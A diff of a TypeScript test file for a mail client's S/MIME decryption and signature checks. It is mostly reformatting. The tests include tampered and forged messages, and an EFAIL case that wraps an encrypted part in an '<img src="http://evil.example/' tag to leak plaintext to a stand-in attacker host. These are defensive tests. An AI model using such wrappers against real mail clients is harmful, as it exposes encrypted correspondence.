@@ -7,12 +7,14 @@ import type { Ring, Secrecy } from '../../../src/mail/secrecy/secrecy.ts';
 import { understandNow } from '../../../src/mail/understand.ts';
 import { type Certified, certified, hasOpenssl, openssl } from '../../support/openssl.ts';
 
-const HEADER = 'From: Li Lei <lilei@customer.example>\r\nTo: desk@support.example\r\nSubject: ...\r\nMessage-ID: <a1@customer.example>\r\nDate: Thu, 26 Nov 2026 10:00:00 +0800\r\n';
-const WORDS = 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n打印机坏了。The printer is broken.\r\n';
-const PROTECTED = WORDS.replace(
-  'utf-8',
-  'utf-8; hp="cipher"',
-).replace('\r\n\r\n', '\r\nFrom: Li Lei <lilei@customer.example>\r\nTo: desk@support.example\r\nSubject: The printer\r\nMessage-ID: <a1@customer.example>\r\nDate: Thu, 26 Nov 2026 10:00:00 +0800\r\n\r\n');
+const HEADER =
+  'From: Li Lei <lilei@customer.example>\r\nTo: desk@support.example\r\nSubject: ...\r\nMessage-ID: <a1@customer.example>\r\nDate: Thu, 26 Nov 2026 10:00:00 +0800\r\n';
+const WORDS =
+  'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n打印机坏了。The printer is broken.\r\n';
+const PROTECTED = WORDS.replace('utf-8', 'utf-8; hp="cipher"').replace(
+  '\r\n\r\n',
+  '\r\nFrom: Li Lei <lilei@customer.example>\r\nTo: desk@support.example\r\nSubject: The printer\r\nMessage-ID: <a1@customer.example>\r\nDate: Thu, 26 Nov 2026 10:00:00 +0800\r\n\r\n',
+);
 
 describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
   let folder: string;
@@ -44,10 +46,16 @@ describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
     ...change,
   });
   const encrypted = (words: string | Buffer, to: Certified, ...options: string[]): Buffer =>
-    Buffer.concat([Buffer.from(HEADER), openssl(['cms', '-encrypt', ...options, '-binary', to.certificateFile], words)]);
+    Buffer.concat([
+      Buffer.from(HEADER),
+      openssl(['cms', '-encrypt', ...options, '-binary', to.certificateFile], words),
+    ]);
   const signed = (words: string, by: Certified, ...options: string[]): Buffer =>
     openssl(['cms', '-sign', '-binary', '-signer', by.certificateFile, '-inkey', by.keyFile, ...options], words);
-  const opened = async (raw: Uint8Array, change?: Partial<Ring>): Promise<{ text: string; subject: string; secrecy: Secrecy }> => {
+  const opened = async (
+    raw: Uint8Array,
+    change?: Partial<Ring>,
+  ): Promise<{ text: string; subject: string; secrecy: Secrecy }> => {
     const { octets, secrecy } = await openMail(raw, ring(change));
     const { text, subject } = understandNow(octets);
     return { text: text.trim(), subject, secrecy };
@@ -69,7 +77,18 @@ describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
     ['RSA-OAEP', () => ['-aes256', ...recipient(desk, '-keyopt', 'rsa_padding_mode:oaep')]],
     [
       'RSA-OAEP with SHA-256',
-      () => ['-aes256', ...recipient(desk, '-keyopt', 'rsa_padding_mode:oaep', '-keyopt', 'rsa_oaep_md:sha256', '-keyopt', 'rsa_mgf1_md:sha256')],
+      () => [
+        '-aes256',
+        ...recipient(
+          desk,
+          '-keyopt',
+          'rsa_padding_mode:oaep',
+          '-keyopt',
+          'rsa_oaep_md:sha256',
+          '-keyopt',
+          'rsa_mgf1_md:sha256',
+        ),
+      ],
     ],
     ['by subject key identifier', () => ['-aes256', '-keyid', ...recipient(desk)]],
     ['ECDH', () => ['-aes128', ...recipient(deskOnCurve)]],
@@ -115,18 +134,30 @@ describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
   ])('a signature, %s', async (_, options, verdict) => {
     const raw = Buffer.concat([Buffer.from(HEADER), signed(WORDS, lilei, ...options())]);
     const { text, secrecy } = await opened(raw);
-    expect({ text, verdict: secrecy.signature?.verdict, encrypted: secrecy.encrypted }).toEqual({ text: SAID, verdict, encrypted: null });
+    expect({ text, verdict: secrecy.signature?.verdict, encrypted: secrecy.encrypted }).toEqual({
+      text: SAID,
+      verdict,
+      encrypted: null,
+    });
   });
 
   test('of a key on a curve', async () => {
     const raw = Buffer.concat([Buffer.from(HEADER), signed(WORDS, deskOnCurve)]);
-    expect((await opened(raw)).secrecy.signature).toMatchObject({ verdict: 'valid', addresses: ['desk@support.example'], trusted: false });
+    expect((await opened(raw)).secrecy.signature).toMatchObject({
+      verdict: 'valid',
+      addresses: ['desk@support.example'],
+      trusted: false,
+    });
   });
 
   test.each<[string, (raw: string) => string, string]>([
     ['words are changed', (raw) => raw.replace('printer', 'pr1nter'), 'broken'],
     ['a line end is changed', (raw) => raw.replaceAll('\r\n', '\n'), 'valid'],
-    ['a third part is put beside it', (raw) => raw.replace(/(\r?\n--(.+))--\r?\n?\s*$/, '$1\r\nContent-Type: text/plain\r\n\r\nPay me.\r\n--$2--\r\n'), 'partial'],
+    [
+      'a third part is put beside it',
+      (raw) => raw.replace(/(\r?\n--(.+))--\r?\n?\s*$/, '$1\r\nContent-Type: text/plain\r\n\r\nPay me.\r\n--$2--\r\n'),
+      'partial',
+    ],
   ])('a clear-signed mail in which %s', async (_, change, verdict) => {
     const raw = Buffer.concat([Buffer.from(HEADER), signed(WORDS, lilei)]).toString('latin1');
     expect(change(raw)).not.toBe(raw);
@@ -142,7 +173,9 @@ describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
   });
 
   test('a signed part in an unsigned wrapper', async () => {
-    const part = signed(WORDS, lilei).toString('latin1').replace(/^MIME-Version.*\r?\n/, '');
+    const part = signed(WORDS, lilei)
+      .toString('latin1')
+      .replace(/^MIME-Version.*\r?\n/, '');
     const raw = `${HEADER}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\nContent-Type: text/plain\r\n\r\nTransfer the money.\r\n--outer\r\n${part}\r\n--outer--\r\n`;
     const { text, secrecy } = await opened(Buffer.from(raw, 'latin1'));
     expect(text).toContain('Transfer');
@@ -150,7 +183,9 @@ describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
   });
 
   test('a signer that is not the sender keeps the name of the signer, and covers no From', async () => {
-    const { secrecy } = await opened(Buffer.concat([Buffer.from(HEADER), signed(PROTECTED.replace('lilei@customer', 'mallory@evil'), mallory)]));
+    const { secrecy } = await opened(
+      Buffer.concat([Buffer.from(HEADER), signed(PROTECTED.replace('lilei@customer', 'mallory@evil'), mallory)]),
+    );
     expect(secrecy.signature).toMatchObject({ verdict: 'valid', addresses: ['mallory@evil.example'] });
     expect(secrecy.signature?.covers).not.toContain('from');
   });
@@ -162,7 +197,9 @@ describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
     );
 
   test('EFAIL: what is encrypted beside other words stays closed', async () => {
-    const part = openssl(['cms', '-encrypt', '-aes256', desk.certificateFile], WORDS).toString('latin1').replace(/^MIME-Version.*\r?\n/, '');
+    const part = openssl(['cms', '-encrypt', '-aes256', desk.certificateFile], WORDS)
+      .toString('latin1')
+      .replace(/^MIME-Version.*\r?\n/, '');
     const raw = wrapped('<img src="http://evil.example/', part, '">');
     const { octets, secrecy } = await openMail(raw, ring());
     expect(secrecy).toEqual({ encrypted: 'partly', signature: null });
@@ -173,10 +210,18 @@ describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
   test.each<[string, (cms: Buffer) => Buffer, string, boolean]>([
     ['another recipient’s', (cms) => cms, 'no_key', false],
     ['cut in the middle', (cms) => cms.subarray(0, cms.length / 2), 'damaged', true],
-    ['GCM with a bit changed', (cms) => Buffer.from(cms).fill((cms.at(-60) ?? 0) ^ 1, cms.length - 60, cms.length - 59), 'damaged', true],
+    [
+      'GCM with a bit changed',
+      (cms) => Buffer.from(cms).fill((cms.at(-60) ?? 0) ^ 1, cms.length - 60, cms.length - 59),
+      'damaged',
+      true,
+    ],
     ['no CMS at all', () => Buffer.from('hello'), 'damaged', true],
   ])('a mail that is %s', async (_, change, why, isOurs) => {
-    const cms = openssl(['cms', '-encrypt', '-binary', '-aes-256-gcm', '-outform', 'DER', (isOurs ? desk : mallory).certificateFile], WORDS);
+    const cms = openssl(
+      ['cms', '-encrypt', '-binary', '-aes-256-gcm', '-outform', 'DER', (isOurs ? desk : mallory).certificateFile],
+      WORDS,
+    );
     const base64 = change(cms).toString('base64').replace(/.{76}/g, '$&\r\n');
     const raw = `${HEADER}Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64}\r\n`;
     const { secrecy } = await openMail(Buffer.from(raw), ring());
